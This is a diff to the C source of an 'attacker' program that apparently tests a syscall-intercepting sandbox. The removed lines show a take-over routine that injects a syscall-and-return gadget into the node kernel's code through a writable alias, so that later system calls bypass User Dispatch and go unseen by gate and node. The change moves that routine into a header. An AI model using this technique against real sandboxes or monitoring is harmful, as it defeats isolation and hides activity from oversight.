@@ -4,9 +4,7 @@
  *
  *   attacker [--take-over] [FILES FOLDER NAME PID] ATTACK|NUMBER...
  *
- * Prints "ATTACK RESULT" for each: 0, or the host's error number. With --take-over it first writes a system call of its own into the
- * text of its node's kernel, through the alias that each process of the node has mapped writable. User Dispatch leaves
- * that range alone, so from then on its calls go to the host as they are, and neither gate nor node sees them.
+ * Prints "ATTACK RESULT" for each: 0, or the host's error number. With --take-over it first takes its node over (taken.h).
  */
 #define _GNU_SOURCE
 #include <errno.h>
@@ -33,10 +31,8 @@
 #include <sys/wait.h>
 #include <unistd.h>
 
-#include "ring3.h"
-#include "ring3_space.h"
+#include "taken.h"
 
-static void *gadget;
 static const char *secret, *folder, *name;
 static long victim;
 
@@ -45,47 +41,14 @@ static long call(long nr, long a, long b, long c, long d, long e, long f)
 {
 	long ret;
 
-	if (!gadget) {
-		ret = syscall(nr, a, b, c, d, e, f);
-		return ret < 0 ? -errno : ret;
-	}
-	{
-		register long r10 asm("r10") = d;
-		register long r8 asm("r8") = e;
-		register long r9 asm("r9") = f;
-
-		asm volatile("call *%[to]"
-			     : "=a" (ret)
-			     : "a" (nr), "D" (a), "S" (b), "d" (c), "r" (r10), "r" (r8), "r" (r9), [to] "r" (gadget)
-			     : "rcx", "r11", "memory");
-	}
-	return ret;
+	if (gadget)
+		return direct(nr, a, b, c, d, e, f);
+	ret = syscall(nr, a, b, c, d, e, f);
+	return ret < 0 ? -errno : ret;
 }
 
 #define CALL6(nr, a, b, c, d, e, f, ...) call(SYS_##nr, (long)(a), (long)(b), (long)(c), (long)(d), (long)(e), (long)(f))
 #define CALL(nr, ...) CALL6(nr, __VA_ARGS__, 0, 0, 0, 0, 0, 0)
-
-static void take_over(void)
-{
-	unsigned char code[] = { 0x0f, 0x05, 0xc3 }, resident;
-	unsigned long i;
-
-	for (i = 0; i < RING3_SLOTS; i++) {
-		char *base = (char *)RING3_SPACE_BASE + i * RING3_SLOT_SIZE;
-		struct ring3_region *region = (void *)base;
-		unsigned long at;
-
-		if (mincore(base, 4096, &resident))
-			continue;
-		/* The page's end, behind the last function. */
-		at = region->text_end - 16;
-		memcpy(base + RING3_ALIAS_OFFSET + at, code, sizeof(code));
-		gadget = base + at;
-		return;
-	}
-	puts("take-over: no node is mapped here");
-	exit(1);
-}
 
 static long done(long ret)
 {
